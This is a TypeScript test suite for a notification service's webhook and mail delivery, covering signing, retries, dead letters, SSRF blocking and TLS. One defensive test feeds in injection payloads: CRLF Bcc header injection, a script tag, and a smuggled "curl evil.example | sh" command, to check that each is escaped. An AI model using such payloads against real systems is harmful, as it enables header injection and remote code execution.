import { spawn } from 'node:child_process';
import { createPublicKey, verify } from 'node:crypto';
import { once } from 'node:events';
import type { ServerResponse } from 'node:http';
import { fileURLToPath } from 'node:url';
import { sql } from 'kysely';
import { Webhook } from 'standardwebhooks';
import { describe, expect, it } from 'vitest';
import { createTestDatabase, type TestDatabase } from '../../test/database.ts';
import { eventually } from '../../test/eventually.ts';
import { receiveMails } from '../../test/mail-server.ts';
import { type Message, receiveWebhooks } from '../../test/webhook-receiver.ts';
import { signStandardWebhook, webhookPublicKey } from '../access/index.ts';
import { appendAudit, auditMigrations, listAudit } from '../audit/index.ts';
import { type Clock, createLogger, openDatabase, parseConfig, systemClock } from '../foundation/index.ts';
import { createCourier } from './courier.ts';
import { createNotifications } from './create-notifications.ts';
import { createWebhooks } from './dead-letters.ts';
import { createEventFeed } from './feed.ts';
import { notifyMigrations } from './migrations.ts';
import { type OutboxEvent, publish, readEvents } from './outbox.ts';
import { readFrontier } from './outbox-frontier.ts';
import { receiversOf } from './receivers.ts';
import { sendTest } from './send-test.ts';
import { nextTryAfter } from './webhook-schedule.ts';

const logger = createLogger({ level: 'silent' });
const organizationId = 'acme';
const SECRET = `whsec_${Buffer.alloc(32, 7).toString('base64')}`;
const OTHER_SECRET = Buffer.alloc(24, 9).toString('base64');

interface Setup {
  readonly teams?: object;
  readonly notify?: object;
  readonly allowPrivate?: readonly string[];
  readonly clock?: Clock;
  readonly timeout?: number;
  /** Waits between the tries of a message. (Default: nine short ones) */
  readonly schedule?: readonly number[];
}

async function start(database: Pick<TestDatabase, 'db' | 'pool'>, setup: Setup) {
  const { clock = systemClock, allowPrivate = ['127.0.0.1'] } = setup;
  const value = {
    teams: setup.teams ?? {},
    notify: setup.notify ?? {},
    networks: { allow_private: allowPrivate },
  };
  const config = parseConfig({ text: JSON.stringify(value), file: 'habeas.yaml', environment: {} });
  const feed = createEventFeed({ ...database, logger, pollMilliseconds: 200 });
  const notifications = createNotifications({
    ...database,
    organizationId,
    config,
    feed,
    sign: signStandardWebhook,
    clock,
    logger,
    timeoutMilliseconds: setup.timeout ?? 5_000,
    retry: { firstMilliseconds: 10, longestMilliseconds: 50 },
    tryMilliseconds: 50,
    schedule: setup.schedule ?? Array.from({ length: 9 }, () => 30),
  });
  await notifications.start();
  return {
    notifications,
    async [Symbol.asyncDispose]() {
      await notifications.stop();
      await feed.close();
    },
  };
}

async function publishNow(
  { db }: Pick<TestDatabase, 'db'>,
  events: readonly Partial<OutboxEvent>[],
  now = new Date(),
) {
  const whole = events.map((event) => ({ organizationId, type: 'map.shrunk', data: {}, ...event }));
  await db.transaction().execute((transaction) => publish(transaction, whole, now));
}

const numbered = (...numbers: readonly number[]) => numbers.map((n) => ({ data: { n } }));
const bodies = (messages: readonly Message[]) => messages.map(({ body }) => JSON.parse(body));
const numbersOf = (messages: readonly Message[]) => bodies(messages).map(({ data }) => data.n);

const FLOW = {
  type: 'map.sensitive-flow-appeared',
  data: {
    team: 'shop',
    service: 'sentinel',
    to_service: 'hammer',
    data_type: 'diagnosis',
    category: 'user.health_and_medical',
    sensitivity: 'article 9',
    source: 'http://sentinel:9464/metrics',
    since: '2026-11-21T08:00:00.000Z',
  },
};
const STORE = {
  type: 'map.store-without-eraser',
  data: {
    team: 'shop',
    service: 'ledger',
    data_types: 'name',
    reason: 'client-not-approved',
    client: 'cli_01',
    since: '2026-11-21T08:00:00.000Z',
  },
};

describe('a webhook', () => {
  it('gets each event of its types once and in order, signed so that others can verify it', async () => {
    await using database = await createTestDatabase(notifyMigrations);
    await using receiver = await receiveWebhooks();
    const webhooks = [
      { name: 'siem', url: receiver.url, secret: SECRET, events: ['map.*', 'request.failed'] },
    ];
    await using _ = await start(database, { notify: { webhooks } });
    await publishNow(database, [
      { type: 'map.changed', data: { source: 'é' } },
      { type: 'mapping.changed' },
      { type: 'request.failed', requestId: 'req_1' },
      { type: 'request.failed.again' },
    ]);
    await publishNow(database, [{ organizationId: 'other' }, { type: 'map.shrunk' }]);
    await eventually('three messages', () => receiver.messages.length >= 3);
    const stored = await readEvents(database.db, {
      organizationId,
      after: 0,
      upTo: (await readFrontier(database.db)).settled,
    });
    const verifier = new Webhook(SECRET);
    for (const { headers, body, path } of receiver.messages) {
      const signed = Object.fromEntries(
        Object.entries(headers).map(([name, value]) => [name, String(value)]),
      );
      expect(verifier.verify(body, signed)).toEqual(JSON.parse(body));
      expect(() => new Webhook(OTHER_SECRET).verify(body, signed)).toThrow('No matching signature');
      expect(headers['content-type']).toBe('application/cloudevents+json');
      expect(headers['webhook-id']).toBe(JSON.parse(body).id);
      expect(path).toBe('/hook?tenant=1');
    }
    expect(bodies(receiver.messages)).toEqual(
      [stored[0], stored[2], stored[4]].map((event) => ({
        specversion: '1.0',
        id: event?.id,
        source: '/organizations/acme',
        type: event?.type,
        time: event?.at.toISOString(),
        ...(event?.requestId === undefined ? {} : { subject: event.requestId }),
        datacontenttype: 'application/json',
        data: event?.data,
      })),
    );
  });

  it('that fails is tried again, with the same ids, and delays nobody else', async () => {
    await using database = await createTestDatabase(notifyMigrations);
    await using broken = await receiveWebhooks();
    await using well = await receiveWebhooks();
    broken.answer = (response) => response.writeHead(500).end();
    const webhooks = [
      { name: 'broken', url: broken.url, secret: SECRET },
      { name: 'well', url: well.url, secret: OTHER_SECRET },
    ];
    await using running = await start(database, {
      notify: { webhooks },
      schedule: Array.from({ length: 9 }, () => 60_000),
    });
    await publishNow(database, numbered(1, 2, 3));
    await eventually('the other has all', () => well.messages.length === 3);
    await eventually('each was tried', () => new Set(numbersOf(broken.messages)).size === 3);
    expect(await running.notifications.statuses()).toMatchObject([
      {
        name: 'notify.webhooks.broken',
        failingSince: expect.any(Date),
        error: expect.stringContaining('SYSTEM_REFUSED'),
        deadLetters: 0,
      },
      { name: 'notify.webhooks.well', failingSince: null, error: null, deadLetters: 0 },
    ]);
    expect((await running.notifications.statuses())[0]?.error).not.toContain('/hook');
    const before = broken.messages.length;
    broken.answer = (response) => response.writeHead(200).end('ok');
    await publishNow(database, numbered(4));
    // The first that it takes ends the outage: what it missed does not wait for its own time.
    await eventually('all is told', () => broken.messages.length - before === 4);
    expect(numbersOf(broken.messages.slice(before))).toEqual([4, 1, 2, 3]);
    expect(new Set(broken.messages.map(({ headers }) => headers['webhook-id'])).size).toBe(4);
    await eventually('it is well', async () =>
      (await running.notifications.statuses()).every(({ failingSince }) => failingSince === null),
    );
    expect(numbersOf(well.messages)).toEqual([1, 2, 3, 4]);
  });

  it('that does not answer, or nobody listens at, is tried again', async () => {
    await using database = await createTestDatabase(notifyMigrations);
    await using silent = await receiveWebhooks();
    silent.answer = () => undefined;
    const gone = await receiveWebhooks();
    await gone[Symbol.asyncDispose]();
    const webhooks = [
      { name: 'gone', url: gone.url, secret: SECRET },
      { name: 'silent', url: silent.url, secret: SECRET },
    ];
    await using running = await start(database, { notify: { webhooks }, timeout: 100 });
    await publishNow(database, numbered(1));
    await eventually('both fail', async () => {
      const statuses = await running.notifications.statuses();
      return statuses.every(({ failingSince }) => failingSince !== null);
    });
    expect((await running.notifications.statuses()).map(({ error }) => error?.split(':')[0])).toEqual([
      'SYSTEM_UNREACHABLE',
      'SYSTEM_TIMEOUT',
    ]);
    await using back = await receiveWebhooks(gone.port);
    silent.answer = (response) => response.writeHead(204).end();
    await eventually('both are told', () => back.messages.length > 0 && silent.messages.length > 1);
    expect(numbersOf(back.messages)).toEqual([1]);
  });

  it('is not followed to where it redirects, and is not called in a network that is not allowed', async () => {
    await using database = await createTestDatabase(notifyMigrations);
    await using inside = await receiveWebhooks();
    await using redirecting = await receiveWebhooks();
    redirecting.answer = (response) => response.writeHead(307, { location: inside.url }).end();
    const webhooks = [
      { name: 'private', url: inside.url.replace('127.0.0.1', '127.0.0.2'), secret: SECRET },
      { name: 'redirecting', url: redirecting.url, secret: SECRET },
      { name: 'sneaky', url: inside.url.replace('127.0.0.1', '[::ffff:7f00:2]'), secret: SECRET },
    ];
    await using running = await start(database, { notify: { webhooks } });
    await publishNow(database, numbered(1));
    await eventually('all fail', async () =>
      (await running.notifications.statuses()).every(({ error }) => error !== null),
    );
    const errors = (await running.notifications.statuses()).map(({ error }) => error);
    expect(errors).toEqual([
      expect.stringContaining('ADDRESS_NOT_APPROVED'),
      expect.stringMatching(/SYSTEM_REFUSED.*HTTP 307, and redirects are not followed/),
      expect.stringContaining('ADDRESS_NOT_APPROVED'),
    ]);
    expect(inside.messages).toEqual([]);
  });

  it('that refuses one message gets all others, and that one again at its times', async () => {
    await using database = await createTestDatabase(notifyMigrations);
    await using receiver = await receiveWebhooks();
    const refusesFirst = (response: ServerResponse, { body }: Message) =>
      response.writeHead(JSON.parse(body).data.n === 1 ? 422 : 204).end();
    receiver.answer = refusesFirst;
    const webhooks = [{ name: 'picky', url: receiver.url, secret: SECRET }];
    await using _ = await start(database, { notify: { webhooks }, schedule: [1_000, 60_000] });
    await publishNow(database, numbered(1, 2, 3));
    await eventually('the others', () => numbersOf(receiver.messages).includes(3));
    expect(numbersOf(receiver.messages)).toEqual([1, 2, 3]);
    await eventually('it is tried again', () => receiver.messages.length === 4);
    expect(numbersOf(receiver.messages).at(-1)).toBe(1);
    await publishNow(database, numbered(4));
    await eventually('the next one', () => numbersOf(receiver.messages).includes(4));
    expect(numbersOf(receiver.messages)).toEqual([1, 2, 3, 1, 4]);
  });

  it('that does not take a message in any try makes it a dead letter, which is told to operators and can be sent again', async () => {
    await using database = await createTestDatabase({ ...auditMigrations, ...notifyMigrations });
    await using receiver = await receiveWebhooks();
    await using mails = await receiveMails();
    receiver.answer = (response) => response.writeHead(400).end();
    const notify = {
      smtp: { url: `smtp://127.0.0.1:${mails.port}`, from: 'habeas@acme.example' },
      webhooks: [{ name: 'siem', url: receiver.url, secret: SECRET }],
      operators: { mail: 'ops@acme.example' },
    };
    await using running = await start(database, { notify, schedule: [5, 5] });
    const webhooks = webhooksOf(database, notify);
    await publishNow(database, [{ type: 'map.changed', data: { n: 1 } }]);
    await eventually(
      'it is a dead letter',
      async () => (await webhooks.deadLetters({ limit: 10 })).length === 1,
    );
    expect(receiver.messages).toHaveLength(3);
    await eventually('operators are told', () => mails.mails.length === 1);
    expect(mails.mails[0]?.parsed.subject).toBe('Habeas: notify.webhooks.siem was not told of map.changed');
    expect((await running.notifications.statuses()).map(({ deadLetters }) => deadLetters)).toContain(1);
    const [letter] = await webhooks.deadLetters({ receiver: 'notify.webhooks.siem', limit: 10 });
    expect(letter).toMatchObject({ type: 'map.changed', error: expect.stringContaining('HTTP 400') });
    expect(letter?.event).toBe(receiver.messages[0]?.headers['webhook-id']);

    receiver.answer = (response) => response.writeHead(204).end();
    const by = { receiver: 'notify.webhooks.siem', actor: 'key:key_1' };
    await expect(webhooks.replay({ ...by, receiver: 'notify.webhooks.none' })).rejects.toMatchObject({
      code: 'NOT_FOUND',
    });
    expect(await webhooks.replay({ ...by, events: ['evt_none'] })).toBe(0);
    expect(await webhooks.replay({ ...by, events: [letter?.event ?? ''] })).toBe(1);
    await eventually('it is told', () => receiver.messages.length === 4);
    expect(receiver.messages[3]?.headers['webhook-id']).toBe(letter?.event);
    expect(await webhooks.deadLetters({ limit: 10 })).toEqual([]);
    expect(await webhooks.replay(by)).toBe(0);
    expect(
      (await listAudit(database.db, { organizationId })).map(({ action, actor }) => [action, actor]),
    ).toEqual([['webhook.replayed', 'key:key_1']]);
    await eventually('it is well', async () =>
      (await webhooks.list()).every(({ waiting, failing_since }) => waiting === 0 && failing_since === null),
    );
    expect(bodies(receiver.messages).map(({ type }) => type)).not.toContain('notify.dead-letter');
  });

  it('that says that it is gone is told nothing before a person enables it, and then all of it', async () => {
    await using database = await createTestDatabase({ ...auditMigrations, ...notifyMigrations });
    await using receiver = await receiveWebhooks();
    await using mails = await receiveMails();
    receiver.answer = (response) => response.writeHead(410).end();
    const notify = {
      smtp: { url: `smtp://127.0.0.1:${mails.port}`, from: 'habeas@acme.example' },
      webhooks: [{ name: 'siem', url: receiver.url, secret: SECRET }],
      operators: { mail: 'ops@acme.example' },
    };
    await using _ = await start(database, { notify });
    const webhooks = webhooksOf(database, notify);
    await publishNow(database, [{ type: 'map.changed', data: { n: 1 } }]);
    await eventually('operators are told', () => mails.mails.length === 1);
    expect(mails.mails[0]?.parsed.text).toContain('habeas webhooks enable notify.webhooks.siem');
    await publishNow(database, [{ type: 'map.changed', data: { n: 2 } }]);
    expect((await webhooks.list())[0]?.disabled_at).not.toBeNull();
    receiver.answer = (response) => response.writeHead(204).end();
    expect(receiver.messages).toHaveLength(1);
    await webhooks.enable({ receiver: 'notify.webhooks.siem', actor: 'key:key_1' });
    await eventually('all is told', () => receiver.messages.length === 3);
    expect(numbersOf(receiver.messages)).toEqual([1, 1, 2]);
    expect((await webhooks.list())[0]?.disabled_at).toBeNull();
  });

  it('may have a key pair instead of a secret, and is signed for with both while it changes', async () => {
    await using database = await createTestDatabase(notifyMigrations);
    await using receiver = await receiveWebhooks();
    const key = `whsk_${Buffer.alloc(32, 3).toString('base64')}`;
    const webhooks = [{ name: 'siem', url: receiver.url, secret: key, former_secrets: [SECRET] }];
    await using _ = await start(database, { notify: { webhooks } });
    await publishNow(database, numbered(1));
    await eventually('a message', () => receiver.messages.length === 1);
    const { headers = {}, body = '' } = receiver.messages[0] ?? {};
    const signed = Object.fromEntries(Object.entries(headers).map(([name, value]) => [name, String(value)]));
    expect(new Webhook(SECRET).verify(body, signed)).toEqual(JSON.parse(body));
    const [asymmetric = '', symmetric = ''] = signed['webhook-signature']?.split(' ') ?? [];
    expect([asymmetric.slice(0, 4), symmetric.slice(0, 3)]).toEqual(['v1a,', 'v1,']);
    const publicKey = createPublicKey({
      key: {
        kty: 'OKP',
        crv: 'Ed25519',
        x: Buffer.from(webhookPublicKey(key)?.slice(5) ?? '', 'base64').toString('base64url'),
      },
      format: 'jwk',
    });
    const content = `${signed['webhook-id']}.${signed['webhook-timestamp']}.${body}`;
    const check = (text: string) =>
      verify(null, Buffer.from(text), publicKey, Buffer.from(asymmetric.slice(4), 'base64'));
    expect([check(content), check(`${content} `)]).toEqual([true, false]);
  });
});

describe('the schedule of a message', () => {
  it('has ten tries over about 75 hours, a little apart for each', () => {
    const waits = Array.from({ length: 10 }, (_, index) => nextTryAfter(index + 1, 0));
    expect(waits.at(-1)).toBeUndefined();
    const total = waits.reduce<number>((sum, wait) => sum + (wait ?? 0), 0);
    expect(total / 3_600_000).toBeCloseTo(75.58, 1);
    expect(nextTryAfter(1, 1)).toBe(5_500);
  });
});

/** What a person sees and does about the webhooks of a configuration. */
function webhooksOf({ db }: Pick<TestDatabase, 'db'>, notify: object) {
  const config = parseConfig({ text: JSON.stringify({ notify }), file: 'habeas.yaml', environment: {} });
  return createWebhooks({
    db,
    organizationId,
    clock: systemClock,
    audit: appendAudit,
    receivers: receiversOf(config).filter((receiver) => receiver.kind === 'webhook'),
  });
}

describe('a mail', () => {
  const smtpAt = (port: number) => ({ url: `smtp://127.0.0.1:${port}`, from: 'habeas@acme.example' });

  it('tells a team all that happened at once in one mail, and nobody else of it', async () => {
    await using database = await createTestDatabase(notifyMigrations);
    await using server = await receiveMails();
    await using hook = await receiveWebhooks();
    const teams = {
      shop: { mail: 'shop@acme.example', webhook: { url: hook.url, secret: SECRET } },
      data: { mail: 'data@acme.example' },
    };
    const notify = { smtp: smtpAt(server.port), operators: { mail: 'ops@acme.example' } };
    await using _ = await start(database, { teams, notify });
    await publishNow(database, [FLOW, STORE, { type: 'map.changed' }, { type: 'task.succeeded' }]);
    await eventually('a mail', () => server.mails.length > 0);
    await eventually('both events', () => hook.messages.length === 2);
    const [mail] = server.mails;
    expect(mail).toMatchObject({ from: 'habeas@acme.example', to: ['shop@acme.example'] });
    expect(mail?.parsed.subject).toBe('Habeas: 2 things to know about the data of team shop');
    expect(mail?.parsed.text).toContain('sentinel sends diagnosis to hammer');
    expect(mail?.parsed.text).toContain('habeas map downstream --data-type diagnosis -- sentinel');
    expect(mail?.parsed.text).toContain('habeas clients approve cli_01');
    expect(mail?.parsed.html).toContain('<pre>habeas clients approve cli_01</pre>');
    expect(mail?.raw).toContain('Auto-Submitted: auto-generated');
    await publishNow(database, [{ ...FLOW, data: { ...FLOW.data, team: 'nobody' } }]);
    await publishNow(database, [{ type: 'map.shrunk', data: { source: 's', lost: 7, edges: 9 } }]);
    await eventually('the operators know', () =>
      server.mails
        .flatMap(({ raw }) => raw)
        .join()
        .includes('7 of its 9'),
    );
    expect(new Set(server.mails.slice(1).map(({ to }) => to.join()))).toEqual(new Set(['ops@acme.example']));
    expect(hook.messages).toHaveLength(2);
  });

  it('tells the team that has a ticket, and no other', async () => {
    await using database = await createTestDatabase(notifyMigrations);
    await using server = await receiveMails();
    await using hook = await receiveWebhooks();
    const teams = {
      data: { mail: 'data@acme.example', webhook: { url: hook.url, secret: SECRET } },
      shop: { mail: 'shop@acme.example' },
    };
    const notify = { smtp: smtpAt(server.port), operators: { mail: 'ops@acme.example' } };
    await using _ = await start(database, { teams, notify });
    const ticket = {
      task: 'ticket:analytics',
      system: 'analytics',
      team: 'data',
      subject: 'tsk_1',
      state: 'running',
    };
    await publishNow(database, [{ type: 'ticket.opened', requestId: 'req_1', data: ticket }]);
    await publishNow(database, [
      { type: 'ticket.opened', data: { ...ticket, team: 'post', subject: 'tsk_2' } },
    ]);
    await eventually('both are told', () => server.mails.length === 2);
    expect(server.mails.map(({ to }) => to.join()).sort()).toEqual(['data@acme.example', 'ops@acme.example']);
    const mail = server.mails.find(({ to }) => to.includes('data@acme.example'));
    expect(mail?.parsed.subject).toBe('Habeas: Team data has a ticket for analytics');
    expect(mail?.parsed.text).toContain('habeas tickets show tsk_1');
    await eventually('the webhook too', () => hook.messages.length === 1);
    expect(bodies(hook.messages)).toMatchObject([{ type: 'ticket.opened', subject: 'req_1', data: ticket }]);
  });

  it('has no header, recipient, mark-up or command that a declared name put into it', async () => {
    await using database = await createTestDatabase(notifyMigrations);
    await using server = await receiveMails();
    const teams = { 'shop\r\nBcc: a@evil.example': { mail: 'shop@acme.example' } };
    await using _ = await start(database, { teams, notify: { smtp: smtpAt(server.port) } });
    const evil =
      "x\r\nBcc: evil@evil.example\r\n\r\n<script>alert(1)</script>\u2028'; curl evil.example | sh #";
    const team = 'shop\r\nBcc: a@evil.example';
    await publishNow(database, [{ ...FLOW, data: { ...FLOW.data, team, service: evil, data_type: evil } }]);
    await eventually('a mail', () => server.mails.length === 1);
    await publishNow(database, [
      { ...FLOW, data: { ...FLOW.data, team } },
      { ...FLOW, data: { ...FLOW.data, team, service: evil, data_type: '--url=http://evil.example' } },
    ]);
    await eventually('both mails', () => server.mails.length >= 2);
    for (const mail of server.mails) {
      expect(mail.to).toEqual(['shop@acme.example']);
      const names = mail.parsed.headers.map(({ key }) => key);
      expect(names).not.toContain('bcc');
      expect(mail.parsed.html).not.toContain('<script');
    }
    const commands = server.mails.flatMap(({ parsed }) =>
      (parsed.text ?? '').split('\n').filter((line) => line.startsWith('    ')),
    );
    const word = `'x Bcc: evil@evil.example <script>alert(1)</script> '\\''; curl evil.example | sh #'`;
    expect(commands).toEqual(
      expect.arrayContaining([
        `    habeas map downstream --data-type ${word} -- ${word}`,
        `    habeas map downstream --data-type '--url=http://evil.example' -- ${word}`,
      ]),
    );
  });

  it('that the server does not take is sent again, with the same id', async () => {
    await using database = await createTestDatabase(notifyMigrations);
    let refusals = 0;
    await using server = await receiveMails({
      onRcptTo(_, __, done) {
        refusals += 1;
        if (refusals < 3) done(Object.assign(new Error('Try later'), { responseCode: 451 }));
        else done();
      },
    });
    const notify = { smtp: smtpAt(server.port), operators: { mail: 'ops@acme.example' } };
    await using _ = await start(database, { notify });
    await publishNow(database, numbered(1));
    await eventually('a mail', () => server.mails.length === 1);
    expect(refusals).toBe(3);
    expect(server.mails[0]?.parsed.messageId).toMatch(
      /^<evt_[a-z0-9]+\.notify-operators-mail@acme\.example>$/,
    );
  });

  it('goes over TLS where the server offers it, with any certificate, and only with a good one where TLS is asked for', async () => {
    await using offering = await receiveMails({ disabledCommands: [] });
    await using speaking = await receiveMails({ secure: true });
    const sendTo = async (url: string) => {
      const config = parseConfig({
        text: JSON.stringify({
          notify: { smtp: { url, from: 'habeas@acme.example' }, operators: { mail: 'ops@acme.example' } },
        }),
        file: 'habeas.yaml',
        environment: {},
      });
      const courier = createCourier({ config, clock: systemClock, sign: signStandardWebhook });
      const { signal } = new AbortController();
      const options = { courier, organizationId, now: new Date(), signal };
      const [result] = await sendTest({ ...options, receivers: receiversOf(config) });
      return result?.error ?? 'sent';
    };
    expect(await sendTo(`smtp://localhost:${offering.port}`)).toBe('sent');
    expect(offering.mails.map(({ secure }) => secure)).toEqual([true]);
    expect(await sendTo(`smtps://localhost:${speaking.port}`)).toMatchObject({
      code: expect.stringMatching(/^SYSTEM_/),
    });
    expect(await sendTo('smtp://169.254.169.254:25')).toMatchObject({ code: 'ADDRESS_NOT_APPROVED' });
    expect(speaking.mails).toEqual([]);
  });

  it('sends no password in the clear', async () => {
    await using database = await createTestDatabase(notifyMigrations);
    const users: unknown[] = [];
    await using server = await receiveMails({
      allowInsecureAuth: true,
      onAuth({ username }, _, done) {
        users.push(username);
        done(null, { user: username });
      },
    });
    const smtp = { url: `smtp://habeas:secret@127.0.0.1:${server.port}`, from: 'habeas@acme.example' };
    await using running = await start(database, {
      notify: { smtp, operators: { mail: 'ops@acme.example' } },
    });
    await publishNow(database, numbered(1));
    await eventually('it fails', async () => (await running.notifications.statuses())[0]?.error !== null);
    expect((await running.notifications.statuses())[0]?.error).toMatch(/^SYSTEM_REFUSED: .*ETLS/);
    expect([users, server.mails]).toEqual([[], []]);
  });
});

describe('several servers', () => {
  it('tell each receiver each event once, and take over from one that ends', async () => {
    await using database = await createTestDatabase(notifyMigrations);
    const second = openDatabase({ url: database.url });
    try {
      await using one = await receiveWebhooks();
      await using other = await receiveWebhooks();
      const webhooks = [
        { name: 'one', url: one.url, secret: SECRET },
        { name: 'other', url: other.url, secret: SECRET },
      ];
      const first = await start(database, { notify: { webhooks } });
      await using _ = await start(second, { notify: { webhooks } });
      for (let n = 0; n < 20; n += 1) await publishNow(database, numbered(n));
      await eventually('all is told', () => one.messages.length >= 20 && other.messages.length >= 20);
      await first[Symbol.asyncDispose]();
      for (let n = 20; n < 40; n += 1) await publishNow(database, numbered(n));
      await eventually('all is told', () => one.messages.length >= 40 && other.messages.length >= 40);
      const all = Array.from({ length: 40 }, (_, n) => n);
      expect([numbersOf(one.messages), numbersOf(other.messages)]).toEqual([all, all]);
    } finally {
      await second.close();
    }
  });

  it('go on after the database ended their connections', async () => {
    await using database = await createTestDatabase(notifyMigrations);
    await using receiver = await receiveWebhooks();
    const webhooks = [{ name: 'siem', url: receiver.url, secret: SECRET }];
    await using _ = await start(database, { notify: { webhooks } });
    await publishNow(database, numbered(1));
    await eventually('it is told, and noted', async () => (await behind(database)) === 0);
    const ended = await sql<{ pid: number }>`
      select pid, pg_terminate_backend(pid) from pg_stat_activity
      where datname = current_database() and pid <> pg_backend_pid()`.execute(database.db);
    expect(ended.rows.length).toBeGreaterThan(0);
    await publishNow(database, numbered(2));
    await eventually('it is told', () => receiver.messages.length === 2);
    expect(numbersOf(receiver.messages)).toEqual([1, 2]);
  });

  it('begin with what happens after a receiver was configured, and go on where they stopped', async () => {
    await using database = await createTestDatabase(notifyMigrations);
    await using receiver = await receiveWebhooks();
    const notify = { webhooks: [{ name: 'siem', url: receiver.url, secret: SECRET }] };
    await publishNow(database, numbered(0));
    {
      await using _ = await start(database, { notify });
      await publishNow(database, numbered(1));
      await eventually('it is told', () => receiver.messages.length === 1);
    }
    await publishNow(database, numbered(2, 3));
    await using _ = await start(database, { notify });
    await eventually('it is told', () => receiver.messages.length === 3);
    expect(numbersOf(receiver.messages)).toEqual([1, 2, 3]);
  });

  it('are killed between the event and its delivery, and the next one delivers it, with the same id', async () => {
    await using database = await createTestDatabase(notifyMigrations);
    await using receiver = await receiveWebhooks();
    receiver.answer = () => undefined;
    const notify = { webhooks: [{ name: 'siem', url: receiver.url, secret: SECRET }] };
    const victim = spawnNotifier(database, notify);
    await eventually('the receiver has a position', async () => (await positions(database)) === 1);
    await publishNow(database, numbered(1, 2));
    await eventually('the first is under way', () => receiver.messages.length === 1);
    victim.kill('SIGKILL');
    await once(victim, 'close');
    await publishNow(database, numbered(3));
    receiver.answer = (response) => response.writeHead(204).end();
    const next = spawnNotifier(database, notify);
    try {
      await eventually('all is told', () => numbersOf(receiver.messages).includes(3));
      expect(numbersOf(receiver.messages)).toEqual([1, 1, 2, 3]);
      expect(new Set(receiver.messages.map(({ headers }) => headers['webhook-id'])).size).toBe(3);
    } finally {
      next.kill('SIGKILL');
      await once(next, 'close');
    }
  });
});

/** A process of its own that tells receivers. */
function spawnNotifier({ url }: TestDatabase, notify: object) {
  const script = fileURLToPath(new URL('../../test/notify-process.ts', import.meta.url));
  const config = JSON.stringify({ notify, networks: { allow_private: ['127.0.0.1'] } });
  return spawn(process.execPath, [script, url, config], { stdio: ['ignore', 'inherit', 'inherit'] });
}

async function positions({ db }: TestDatabase): Promise<number> {
  const { rows } = await sql<{ count: number }>`select count(*) from notify_subscriptions`.execute(db);
  return rows[0]?.count ?? 0;
}

/** How many receivers were not told of all that is in the outbox. */
async function behind({ db }: TestDatabase): Promise<number> {
  const { rows } = await sql<{ count: number }>`
    select count(*) from notify_subscriptions
    where position < (select max(sequence) from outbox_events)`.execute(db);
  return rows[0]?.count ?? 0;
}
